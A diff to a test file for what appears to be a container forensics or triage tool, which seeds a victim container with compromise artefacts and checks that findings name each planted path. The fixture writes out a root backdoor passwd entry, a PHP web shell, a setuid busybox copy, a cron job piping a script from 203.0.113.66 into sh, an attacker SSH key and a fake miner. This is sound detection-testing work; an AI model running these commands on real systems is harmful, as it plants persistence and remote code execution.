@@ -29,6 +29,10 @@ echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd
 mkdir -p /var/www/html && echo '<?php system($_GET["c"]); ?>' > /var/www/html/up.php
 cp /bin/busybox /tmp/.k && chmod 4755 /tmp/.k
 rm /etc/group
+mkdir -p /etc/crontabs /root/.ssh /var/tmp/.x
+echo '*/5 * * * * wget -qO- http://203.0.113.66/x.sh | sh' >> /etc/crontabs/root
+echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHiGfCGmZVIfX4gyFHN3TpZUurHTw3Uk1j0ItF+DCew4 root@kali' >> /root/.ssh/authorized_keys
+cp /bin/busybox /var/tmp/.x/xmrig
 echo READY
 exec sleep 600
 """
@@ -131,3 +135,10 @@ def test_triage_collects_each_container(victims: list[str], tmp_path: Path) -> N
     ):
         assert (rule, subject) in mine, rule  # fmt: skip
     assert not [f for f in result.findings if f.subject == f"container:{quiet}"]
+    # As the lab's e2e test asks: a finding about the container names each planted path.
+    texts = [
+        f"{f.title}\n{f.details}\n{' '.join(f.evidence)}" for f in result.findings if f.subject == subject
+    ]
+    for planted in ("/etc/passwd", "/etc/crontabs/root", "/root/.ssh/authorized_keys", "/var/tmp/.x/xmrig",
+                    "/var/www/html/up.php"):  # fmt: skip
+        assert any(planted in text for text in texts), planted
